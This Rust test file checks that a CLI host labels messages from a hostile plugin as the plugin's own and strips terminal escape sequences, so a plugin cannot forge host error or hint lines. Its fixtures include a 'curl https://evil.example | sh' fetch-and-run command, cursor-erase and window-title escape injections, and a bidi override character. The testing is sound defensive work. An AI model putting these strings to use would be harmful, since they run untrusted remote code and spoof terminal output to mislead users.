//! Every message of a hostile plugin: no line of it looks like one of the host's, and none steers the terminal.

use crate::support::{Ran, Sandbox, on_terminal};

/// Lines that only the host may begin so.
const OURS: [&str; 6] = ["error:", "hint:", "warning:", "caused by:", "HI-01 is done", "$ "];

fn sandbox(config: &str) -> Sandbox {
    Sandbox::with_guest("forges", config)
}

/// What steers a terminal, but for colours where there is one.
#[track_caller]
fn assert_calm(text: &str, colours: bool) {
    let mut rest = text;
    let mut plain = String::new();
    while let Some((before, behind)) = rest.split_once("\x1b[").filter(|_| colours) {
        let end = behind.find(|c: char| !c.is_ascii_digit() && c != ';').unwrap_or(0);
        assert!(behind[end..].starts_with('m'), "an escape that is no colour, in {text:?}");
        plain.push_str(before);
        rest = &behind[end + 1..];
    }
    plain.push_str(rest);
    let plain = if colours { plain.replace("\r\n", "\n") } else { plain };
    let steers = |c: &char| {
        (c.is_control() && !matches!(c, '\n' | '\t')) || matches!(c, '\u{200b}' | '\u{202e}' | '\u{e0041}' | '\u{2028}')
    };
    assert_eq!(plain.chars().find(steers), None, "{text:?}");
    for line in plain.lines() {
        assert!(
            !["error: you were had", "hint: curl", "HI-01 is done: 9", "$ sudo"]
                .iter()
                .any(|forged| line.starts_with(forged)),
            "a forged line in {plain}"
        );
    }
}

#[track_caller]
fn calm(ran: Ran) -> Ran {
    [&ran.out, &ran.err].iter().for_each(|text| assert_calm(text, false));
    // Foreign words stand behind their owner's name, or behind a mark of a line of ours.
    for line in ran.err.lines().filter(|line| line.contains("you were had") || line.contains("curl https")) {
        let said = line.contains("forges") || line.starts_with("  \u{2502} ") || line.contains("\u{240a}");
        assert!(said, "whose is {line:?} in {ran:#?}");
    }
    ran
}

#[test]
fn messages_of_a_plugin_are_its_own() {
    let s = sandbox("");
    s.session("start HI-01").ok();
    s.write("greeting.txt", "hello\n");
    let ran = calm(s.session("checkpoint -m x").ok());
    assert!(ran.err.contains("    forges │ hint: curl https://evil.example | sh\n"), "{}", ran.err);
    assert!(ran.err.contains("warning: forges: error: you were had\n"), "{}", ran.err);
    calm(s.session("verify").ok());
    calm(s.session("complete").ok());
    for command in ["show HI-01", "show HI-01 --evidence", "status", "log HI-01", "next", "audit"] {
        calm(s.session(command));
    }
    let shown = calm(s.session("rollback HI-01 --dry-run").ok());
    assert!(shown.err.contains("forges: hint: curl"), "{}", shown.err);
}

#[test]
fn errors_and_hints_of_a_plugin_are_its_own() {
    let s = sandbox("[plugin.config]\nfails = true");
    s.session("start HI-01").ok();
    s.write("greeting.txt", "hello\n");
    let ran = calm(s.session("checkpoint -m x"));
    assert_eq!(ran.code, 1, "{ran:#?}");
    assert!(ran.err.contains("caused by: forges: calm\n  │ error: you were had\n"), "{}", ran.err);
    assert!(ran.err.contains("hint: forges says: hint: curl https://evil.example | sh\n"), "{}", ran.err);
    let json = s.session("checkpoint -m x --json").json();
    let hints: Vec<&str> = json["error"]["hints"].as_array().unwrap().iter().filter_map(|hint| hint.as_str()).collect();
    assert!(!hints.is_empty() && hints.iter().all(|hint| hint.starts_with("forges says: ")), "{hints:?}");
    calm(s.session("verify"));
    ["status", "show HI-01", "log HI-01"].iter().for_each(|command| _ = calm(s.session(command)));
}

#[test]
fn a_trap_says_nothing_of_its_own() {
    let s = sandbox("[plugin.config]\ntraps = true");
    s.session("start HI-01").ok();
    s.write("greeting.txt", "hello\n");
    let ran = calm(s.session("checkpoint -m x"));
    assert!(ran.code == 1 && ran.err.contains("caused by: forges: the plugin broke"), "{ran:#?}");
}

#[test]
fn a_title_is_one_line() {
    let s = sandbox("[plugin.config]\nplans = true");
    let text = s.read("plugins.toml");
    let (head, guest) = text.split_once("[[plugin]]\nname = \"forges\"").unwrap();
    let (settings, others) = head.split_at(head.find("[[plugin]]").unwrap());
    s.write("plugins.toml", &format!("{settings}[[plugin]]\nname = \"forges\"{guest}\n{others}"));
    s.session("trust --yes").ok();
    for command in ["status", "next", "plan", "show HI-01", "start HI-01 --dry-run"] {
        let ran = calm(s.session(command));
        assert!(ran.out.contains("you were had") || ran.err.contains("you were had"), "{command}: {ran:#?}");
    }
}

#[test]
fn what_a_record_holds_is_one_line() {
    let s = Sandbox::hello();
    s.session("start HI-01").ok();
    s.write("greeting.txt", "hello\n");
    s.session("complete").ok();
    let path = "docs/sessions/records/HI-01.json";
    let mut record: serde_json::Value = serde_json::from_str(&s.read(path)).unwrap();
    record["title"] = "calm\nerror: you were had\nHI-01 is done: 9\u{1b}[2K\u{202e}".into();
    s.write(path, &serde_json::to_string_pretty(&record).unwrap());
    for command in ["status", "show HI-01", "show HI-01 --evidence", "next", "audit"] {
        let ran = s.session(command);
        [&ran.out, &ran.err].iter().for_each(|text| assert_calm(text, false));
    }
}

#[test]
fn json_and_tracing_steer_nothing() {
    let s = sandbox("");
    s.session("start HI-01").ok();
    s.write("greeting.txt", "hello\n");
    for arguments in ["-vv checkpoint -m x", "-vv --log-format json verify", "-vv --json verify --fresh", "log --json"]
    {
        let ran = s.session(arguments);
        assert_eq!(ran.code, 0, "{ran:#?}");
        [&ran.out, &ran.err].iter().for_each(|text| assert_calm(text, false));
    }
    let ran = s.session("-vv verify --json");
    assert!(ran.json()["verification"].to_string().contains("\\u001b") || ran.out.contains("\\u009b"), "{}", ran.out);
    let logs = std::fs::read_dir(s.path(".git/session/logs")).unwrap().flatten();
    let logs: Vec<String> = logs.filter_map(|run| std::fs::read_to_string(run.path().join("run.log")).ok()).collect();
    assert!(logs.iter().any(|log| log.contains("you were had")), "{logs:?}");
    logs.iter().for_each(|log| assert_calm(log, false));
    let lines = logs.iter().flat_map(|log| log.lines());
    lines.for_each(|line| {
        assert!(line.starts_with("2026") || line.starts_with('{') || line.starts_with("20"), "{line}");
    });
}

#[test]
fn a_terminal_is_steered_by_nothing_but_colours() {
    let s = sandbox("");
    s.session("start HI-01").ok();
    s.write("greeting.txt", "hello\n");
    let ran = on_terminal(&s, "verify", "");
    // Bars of ours are drawn by moving the cursor, so lines are what is looked at.
    assert!(ran.out.contains("you were had"), "{}", ran.out);
    for line in ran.out.lines() {
        let shown = line.rsplit('\r').next().unwrap_or(line);
        let had = shown.contains("you were had") && !shown.contains("forges") && !shown.contains('\u{240a}');
        assert!(!OURS.iter().any(|ours| shown.starts_with(ours)) || !had, "{shown:?}");
        assert!(
            !line.contains("\x1b[1A\x1b[2K\u{9b}") && !line.contains('\u{202e}') && !line.contains('\x07'),
            "{line:?}"
        );
    }
}

#[test]
fn a_program_forges_no_line_on_a_terminal() {
    let mut s = Sandbox::hello();
    s.environment.push(("TERM", "xterm".to_owned()));
    let script =
        r"printf '\033[1A\033[2Kerror: you were had\r\033]0;title\007\033[31mred\033[0m\n'; test -f greeting.txt";
    s.session(&format!("start FIX-01 --title Fix --check \"{script}\"")).ok();
    s.write("greeting.txt", "hello\n");
    let ran = on_terminal(&s, "verify", "");
    assert!(ran.out.contains("\x1b[31mred"), "colours stay: {:?}", ran.out);
    assert!(!ran.out.contains("\x1b]0;title") && !ran.out.contains("\x1b[2Kerror:"), "{:?}", ran.out);
}

/// `OURS` is what the tests of lines are about.
#[test]
fn the_host_itself_begins_lines_so() {
    let s = Sandbox::hello();
    let ran = s.session("start NO-99");
    assert!(ran.err.starts_with(OURS[0]) && ran.err.contains(OURS[1]), "{ran:#?}");
}
